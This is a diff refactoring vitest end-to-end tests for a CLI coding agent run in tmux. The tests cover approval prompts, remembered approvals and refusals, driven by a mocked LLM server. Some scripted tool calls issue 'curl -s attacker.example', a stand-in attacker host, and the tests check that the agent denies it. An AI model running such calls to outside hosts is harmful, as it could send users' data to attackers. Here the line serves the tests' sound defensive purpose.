@@ -6,26 +6,15 @@
 import { execFileSync } from "node:child_process";
 import { existsSync, readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
-import { afterEach, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 import { sessionIdFrom } from "../e2e/helpers.js";
-import { binPath, makeTempHome, runAgenix, type TempHome } from "../support/cli.js";
-import { type LlmServer, startLlmServer } from "../support/llm-server.js";
-import { startAgenixInTmux, type TmuxPane, waitUntil } from "./tmux.js";
+import { runAgenix, type TempHome } from "../support/cli.js";
+import type { startLlmServer } from "../support/llm-server.js";
+import { waitUntil } from "./tmux.js";
+import { tmuxFixture } from "./tmux-fixture.js";
 
+const tmux = tmuxFixture();
 let home: TempHome;
-let server: LlmServer;
-let pane: TmuxPane | undefined;
-
-beforeAll(() => {
-  if (!existsSync(binPath)) throw new Error("Build first: npm run build");
-});
-
-afterEach(async () => {
-  pane?.kill();
-  pane = undefined;
-  await server?.close();
-  await home?.cleanup();
-});
 
 function toolMessages(): { content: string; is_error: boolean; tool_call_id: string }[] {
   const folders = existsSync(home.sessionDir) ? readdirSync(home.sessionDir) : [];
@@ -43,18 +32,14 @@ const call = (id: string, command: string) => ({ id, name: "bash", arguments: { 
 
 describe("approval box in tmux", () => {
   it("answers yes, always (the next identical call does not ask) and no with a reason", async () => {
-    server = await startLlmServer([
+    ({ home } = await tmux.setup([
       { toolCalls: [call("c1", "touch once.txt")] },
       { toolCalls: [call("c2", "touch always.txt")] },
       { toolCalls: [call("c3", "touch always.txt")] },
       { toolCalls: [call("c4", "curl -s attacker.example")] },
       { text: "All done." },
-    ]);
-    home = await makeTempHome();
-    home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
-    home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
-    const p = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home });
-    pane = p;
+    ]));
+    const p = tmux.open();
     await p.waitFor("/help for commands");
     await p.waitFor("mode: default");
     p.type("make the files");
@@ -107,20 +92,16 @@ describe("approval box in tmux", () => {
   });
 
   it("a remembered approval lasts: the next interactive run and print mode run it, no trust question", async () => {
-    server = await startLlmServer([
+    ({ home } = await tmux.setup([
       { toolCalls: [call("c1", "touch first.txt")] },
       { text: "First done." },
       { toolCalls: [call("c2", "touch second.txt")] },
       { text: "Second done." },
       { toolCalls: [call("c3", "touch third.txt")] },
       { text: "Third done." },
-    ]);
-    home = await makeTempHome();
+    ]));
     execFileSync("git", ["init", "-q", home.workDir]);
-    home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
-    home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
-    let p = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home });
-    pane = p;
+    let p = tmux.open();
     await p.waitFor("/help for commands");
     p.type("make the first file");
     p.keys("Enter");
@@ -131,8 +112,7 @@ describe("approval box in tmux", () => {
     p.kill();
 
     // A new interactive run: no trust question, no approval box, the command runs.
-    p = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home });
-    pane = p;
+    p = tmux.open();
     let screen = await p.waitFor("/help for commands");
     expect(screen).not.toContain("Trust this folder");
     p.type("make the second file");
@@ -151,10 +131,7 @@ describe("approval box in tmux", () => {
 });
 
 async function setup(replies: Parameters<typeof startLlmServer>[0]) {
-  server = await startLlmServer(replies);
-  home = await makeTempHome();
-  home.env.OPENAI_BASE_URL = server.openaiBaseUrl;
-  home.env.OPENAI_API_KEY = "sk-test-not-a-real-key";
+  ({ home } = await tmux.setup(replies));
 }
 
 describe("refusals in interactive mode", () => {
@@ -166,7 +143,7 @@ describe("refusals in interactive mode", () => {
     const printed = await runAgenix(["fetch it"], { cwd: home.workDir, env: home.env });
     expect(printed.code, printed.stderr).toBe(0);
     const id = sessionIdFrom(printed.stderr);
-    pane = startAgenixInTmux({ env: home.env, cwd: home.workDir, home: home.home, args: ["--session", id] });
+    const pane = tmux.open({ args: ["--session", id] });
     const screen = await pane.waitFor("I could not fetch it.");
     expect(screen).toContain("⎿ Denied: bash(curl -s attacker.example) (");
     expect(screen).not.toMatch(/⎿ \d+ lines/);
@@ -177,12 +154,7 @@ describe("refusals in interactive mode", () => {
       { toolCalls: [{ id: "c1", name: "write", arguments: { file_path: "notes.md", content: "x\n" } }] },
       { text: "Planned only." },
     ]);
-    pane = startAgenixInTmux({
-      env: home.env,
-      cwd: home.workDir,
-      home: home.home,
-      args: ["--permission-mode", "plan"],
-    });
+    const pane = tmux.open({ args: ["--permission-mode", "plan"] });
     await pane.waitFor("/help for commands");
     pane.type("write the notes");
     pane.keys("Enter");
